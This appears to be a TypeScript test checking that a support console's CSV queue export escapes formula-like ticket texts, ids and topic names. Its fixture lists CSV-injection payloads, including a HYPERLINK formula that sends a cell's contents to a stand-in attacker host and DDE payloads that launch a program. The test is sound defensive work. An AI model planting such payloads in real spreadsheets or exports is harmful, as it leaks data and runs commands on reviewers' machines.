import assert from "node:assert/strict";
import { test } from "node:test";
import { queueCsv } from "../../src/review/label-studio.js";

/**
 * CSV injection: a customer writes a ticket that starts with a formula; a reviewer opens the console's
 * queue export (/api/export/queue.csv) in a spreadsheet. Every text field that a spreadsheet would
 * evaluate starts with an apostrophe, so it shows as text; other texts are unchanged.
 */
test("ticket texts, ids and topic names that read as formulas are exported as text", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];
  const names = new Map([[3, "=topic name"]]);
  const csv = queueCsv(
    [
      ...hostile.map((text, i) => ({ id: `t${i}`, text, predicted: 3, margin: 0.25 })),
      { id: "=id", text: "My card was declined - twice", predicted: null, margin: 0.5 },
    ],
    names,
  );
  const rows = csv.split("\r\n").slice(1, -1);
  for (const [i, text] of hostile.entries()) {
    const cell = rows.find((r) => r.startsWith(`t${i},`))!;
    const value = cell.slice(cell.indexOf(",") + 1);
    assert.ok(
      value.startsWith("'") || value.startsWith(`"'`),
      `${JSON.stringify(text)} exported as ${value}`,
    );
    assert.ok(value.includes(",3,'=topic name,0.2500"), value);
  }
  assert.ok(rows.at(-1)!.startsWith("'=id,My card was declined - twice,,,0.5000"), rows.at(-1));
});
